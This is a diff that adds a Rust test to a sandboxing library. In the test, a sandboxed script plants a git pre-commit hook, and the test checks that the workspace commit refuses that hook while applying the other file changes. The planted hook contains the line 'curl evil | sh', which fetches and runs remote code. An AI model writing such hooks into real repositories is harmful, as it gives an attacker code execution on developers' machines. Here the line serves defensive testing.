@@ -285,3 +285,64 @@ fn declared_compute_risk_routes_a_module_to_wasm_and_the_receipt_records_it() {
         route.reason
     );
 }
+
+#[test]
+fn planted_git_hook_in_a_transactional_workspace_is_refused_by_commit_all() {
+    use strata::policy::workspace::{ChangeKind, CommitMode, Flag, Selection};
+    let log_dir = tempfile::tempdir().expect("tempdir");
+    let log = log_dir.path().join("audit.jsonl");
+    let repo = tempfile::tempdir().expect("repo");
+    std::fs::create_dir_all(repo.path().join(".git")).expect(".git");
+    std::fs::write(repo.path().join("main.py"), "print('v1')\n").expect("main.py");
+    std::fs::write(repo.path().join("old.txt"), "bye\n").expect("old.txt");
+    // Tier low: the workspace counts as a read of the repository, so no approval is needed.
+    let sandbox = builder().tier("low").audit(&log).build().expect("sandbox");
+    let mut ws = strata::Workspace::stage(repo.path(), strata::ByteSize::mib(64)).expect("stage");
+    let root = repo.path().display().to_string();
+    let script = format!(
+        "cd {root} && echo \"print('v2')\" > main.py && rm old.txt && mkdir -p .git/hooks \
+         && printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit && chmod 755 .git/hooks/pre-commit"
+    );
+    let out = sandbox
+        .run_in_workspace(
+            &ws,
+            None,
+            &sh(&script),
+            &Caps::new(),
+            &RunContext::default(),
+        )
+        .expect("run");
+    assert!(out.success(), "{}", stderr(&out));
+    // Nothing reached the repository yet.
+    assert_eq!(
+        std::fs::read_to_string(repo.path().join("main.py")).expect("read"),
+        "print('v1')\n"
+    );
+    let diff = ws.diff().expect("diff");
+    let hook = diff
+        .get(Path::new(".git/hooks/pre-commit"))
+        .expect("the hook is in the diff");
+    assert_eq!(hook.kind, ChangeKind::Added);
+    assert!(
+        hook.flags
+            .iter()
+            .any(|f| matches!(f, Flag::HostExecuted { .. })),
+        "{:?}",
+        hook.flags
+    );
+    let report = sandbox
+        .commit_workspace(&mut ws, &Selection::All, &[], CommitMode::SkipRefused)
+        .expect("commit");
+    assert!(
+        report.refusal(Path::new(".git/hooks/pre-commit")).is_some(),
+        "{report:?}"
+    );
+    assert!(!repo.path().join(".git/hooks/pre-commit").exists());
+    assert_eq!(
+        std::fs::read_to_string(repo.path().join("main.py")).expect("read"),
+        "print('v2')\n"
+    );
+    assert!(!repo.path().join("old.txt").exists());
+    ws.discard().expect("discard");
+    assert_eq!(policy_decisions(&log), ["workspace:committed_in_part"]);
+}
